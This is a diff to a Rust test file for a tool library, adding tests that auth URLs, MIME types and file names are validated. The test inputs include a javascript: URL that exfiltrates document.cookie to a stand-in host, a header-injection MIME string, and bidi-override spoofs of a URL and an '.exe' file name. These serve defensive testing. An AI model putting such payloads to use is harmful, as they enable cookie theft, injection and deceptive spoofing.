@@ -10,8 +10,8 @@ use std::path::PathBuf;
 
 use serde_json::{Map, Value, json};
 use toolnexus::{
-    ContentPart, ContentPartKind, DEFAULT_AUTH_PROMPT, DEFAULT_MAX_BYTES, FileError, Request,
-    ToolResult, UrlError, Wire, auth_required, new_request_id, pending, pending_of,
+    ContentPart, ContentPartKind, DEFAULT_AUTH_PROMPT, DEFAULT_MAX_BYTES, FileError, MimeTypeError,
+    Request, ToolResult, UrlError, Wire, auth_required, new_request_id, pending, pending_of,
 };
 
 fn meta(pairs: &[(&str, Value)]) -> Map<String, Value> {
@@ -113,9 +113,54 @@ fn pending_of_after_a_wire_round_trip() {
     assert_eq!(req.kind, "authorization");
     assert_eq!(req.url.as_deref(), Some("https://example.com/login"));
     assert_eq!(
-        pending_of(&auth_required("u", "")).unwrap().prompt,
+        pending_of(&auth_required("https://u.test", ""))
+            .unwrap()
+            .prompt,
         DEFAULT_AUTH_PROMPT
     );
+}
+
+#[test]
+fn a_refused_url_gives_an_error_result_not_a_suspension() {
+    // The link a host shows a person: only http and https (idl/helpers/pending.json has more).
+    let r = auth_required("javascript:fetch('//evil/'+document.cookie)", "Sign in");
+    assert!(r.is_error && pending_of(&r).is_none(), "{r:?}");
+    assert_eq!(
+        r.output,
+        "cannot ask \"authorization\": the request's url is refused: the URL \
+         \"javascript:fetch('//evil/'+document.cookie)\" is not an http or https URL \
+         (javascript:, file:, data: and others are refused)"
+    );
+    let r = auth_required("", "");
+    assert!(r.is_error && pending_of(&r).is_none(), "{r:?}");
+    let r = pending(Request {
+        kind: "authorization".into(),
+        prompt: "Sign in".into(),
+        url: Some("https://example.com/\u{202e}moc.elgoog".into()),
+        ..Default::default()
+    });
+    assert!(
+        r.output
+            .ends_with("holds a bidi formatting character (U+202E) at index 20")
+    );
+}
+
+#[test]
+fn from_bytes_refuses_a_missing_blank_or_line_breaking_mime_type() {
+    assert_eq!(
+        ContentPart::from_bytes(b"hi", ""),
+        Err(MimeTypeError::Missing)
+    );
+    for bad in [" ", "text/plain\r\nX-Evil: 1", "image/png\u{85}"] {
+        let err = ContentPart::from_bytes(b"hi", bad).unwrap_err();
+        assert!(
+            matches!(&err, MimeTypeError::NotValid { mime_type, .. } if mime_type == bad),
+            "{err:?}"
+        );
+    }
+    // From a data: URL too: a blank MIME type given is refused, where it was kept.
+    let err = ContentPart::from_url("data:image/png;base64,aGk=", Some(" ")).unwrap_err();
+    assert_eq!(err.to_string(), "the MIME type \" \" is blank", "{err:?}");
 }
 
 #[test]
@@ -195,20 +240,12 @@ fn text_parts() {
 }
 
 #[test]
-fn from_bytes_refuses_a_part_that_would_carry_nothing_or_no_mime_type() {
-    use toolnexus::BytesError;
-    assert_eq!(
-        ContentPart::from_bytes(b"hi", ""),
-        Err(BytesError::MissingMimeType)
-    );
-    assert_eq!(
-        ContentPart::from_bytes(b"hi", " "),
-        Err(BytesError::MissingMimeType)
-    );
-    assert_eq!(
-        ContentPart::from_bytes(b"", "image/png"),
-        Err(BytesError::Empty)
-    );
+fn from_bytes_of_no_bytes_makes_a_part_every_parser_refuses() {
+    // The MIME type is checked where the part is made (MimeTypeError); a part of no bytes
+    // is built, as `ContentPart::text("")` is, and refused by every parser: it carries nothing.
+    let part = ContentPart::from_bytes(b"", "image/png").unwrap();
+    let err = ContentPart::from_json(&part.to_json()).unwrap_err();
+    assert!(err.message().contains("carries nothing"), "{err}");
     let part = ContentPart::from_bytes(b"hi", "text/plain").unwrap();
     assert_eq!(
         part.to_json(),
@@ -255,6 +292,32 @@ fn from_bytes_kind_follows_the_mime_family() {
         assert_eq!((part.kind, part.mime_type.as_str()), (kind, mime));
         assert_eq!(part.data, "aGk=");
     }
+}
+
+#[test]
+fn with_name_names_a_part_as_python_and_typescript_do() {
+    let part = ContentPart::from_bytes(b"hi", "application/pdf")
+        .unwrap()
+        .with_name("a.pdf");
+    assert_eq!(
+        part.to_json(),
+        r#"{"type":"file","mimeType":"application/pdf","data":"aGk=","name":"a.pdf"}"#
+    );
+    let linked = ContentPart::from_url("https://e.com/v.mp4", Some("video/mp4"))
+        .unwrap()
+        .with_name("v.mp4");
+    assert_eq!(linked.name, "v.mp4");
+    assert_eq!(
+        ContentPart::from_bytes(b"hi", "a/b")
+            .unwrap()
+            .with_name("")
+            .to_json(),
+        r#"{"type":"file","mimeType":"a/b","data":"aGk="}"#
+    );
+    let hidden = ContentPart::from_bytes(b"hi", "a/b")
+        .unwrap()
+        .with_name("evil\u{202e}gpj.exe");
+    assert_eq!(hidden.name, "evil\u{fffd}gpj.exe");
 }
 
 #[test]
